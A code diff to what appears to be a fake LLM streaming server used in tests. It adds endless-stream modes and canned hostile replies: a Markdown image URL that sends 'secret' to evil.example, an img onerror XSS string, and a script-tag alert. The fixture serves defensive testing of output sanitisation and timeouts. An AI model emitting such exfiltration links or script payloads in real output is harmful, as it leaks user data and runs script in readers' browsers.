@@ -7,9 +7,10 @@ The requested *model name* picks the behaviour:
 - ``slow``: waits ``SLOW_S`` seconds before answering (for timeouts);
 - ``echo``: streams ``REPLY`` in a few chunks without usage (like llama.cpp's server);
 - ``echo-usage``: the same, with a final usage chunk (like OpenAI with include_usage);
-- ``html``: streams ``HTML_REPLY``.
+- ``endless`` streams text without end, ignoring max_tokens; ``trickle`` sends empty chunks without end;
+- ``html``: streams ``HTML_REPLY``; ``image``: streams ``IMAGE_REPLY`` (a Markdown image and an HTML one).
 
-Every request's Authorization header and JSON body are recorded in ``FakeServer.requests``.
+Every request's Authorization header, all headers, path and JSON body are recorded in ``FakeServer.requests``.
 """
 
 from __future__ import annotations
@@ -23,6 +24,7 @@ from typing import Any
 
 REPLY = ["Hello", ", ", "learner", "!"]
 HTML_REPLY = ["<script>alert('x')</script>", " <b>bold</b>"]
+IMAGE_REPLY = ["Here: ![chart](http://evil.example/px.png?d=", "secret) and <img src=x onerror=alert(1)>"]
 USAGE = {"prompt_tokens": 11, "completion_tokens": 4, "total_tokens": 15}
 SLOW_S = 3.0
 
@@ -31,6 +33,8 @@ SLOW_S = 3.0
 class Recorded:
     authorization: str | None
     body: dict[str, Any]
+    headers: dict[str, str] = field(default_factory=dict)  # every header, names in lower case
+    path: str = ""
 
 
 @dataclass
@@ -73,13 +77,28 @@ def start() -> FakeServer:
             self.end_headers()
             self.wfile.write(data)
 
+        def _forever(self, model: str) -> None:
+            """Ignore max_tokens and never finish: text without end, or empty keep-alive chunks."""
+            delta = {"content": "spam "} if model == "endless" else {}
+            try:
+                self.send_response(200)
+                self.send_header("Content-Type", "text/event-stream")
+                self.end_headers()
+                while True:
+                    self.wfile.write(f"data: {json.dumps(_chunk(model, delta))}\n\n".encode())
+                    self.wfile.flush()
+                    time.sleep(0.001 if model == "endless" else 0.05)
+            except (BrokenPipeError, ConnectionResetError):
+                return
+
         def do_GET(self) -> None:
             self._json(200, {"object": "list", "data": [{"id": "echo", "object": "model"}]})
 
         def do_POST(self) -> None:
             length = int(self.headers.get("Content-Length", "0"))
             body = json.loads(self.rfile.read(length) or b"{}")
-            fake.requests.append(Recorded(self.headers.get("Authorization"), body))
+            headers = {name.lower(): value for name, value in self.headers.items()}
+            fake.requests.append(Recorded(self.headers.get("Authorization"), body, headers, self.path))
             model = str(body.get("model", ""))
             if model.startswith(("status-", "quota-")):
                 status = int(model.split("-")[1])
@@ -88,12 +107,15 @@ def start() -> FakeServer:
                 return
             if model == "slow":
                 time.sleep(SLOW_S)
-            pieces = HTML_REPLY if model == "html" else REPLY
+            pieces = {"html": HTML_REPLY, "image": IMAGE_REPLY}.get(model, REPLY)
             events = [_chunk(model, {"role": "assistant"})]
             events += [_chunk(model, {"content": p}) for p in pieces]
             events.append(_chunk(model, {}, "stop"))
             if model == "echo-usage":
                 events.append({**_chunk(model, {}), "choices": [], "usage": USAGE})
+            if model in ("endless", "trickle"):
+                self._forever(model)
+                return
             try:
                 self.send_response(200)
                 self.send_header("Content-Type", "text/event-stream")
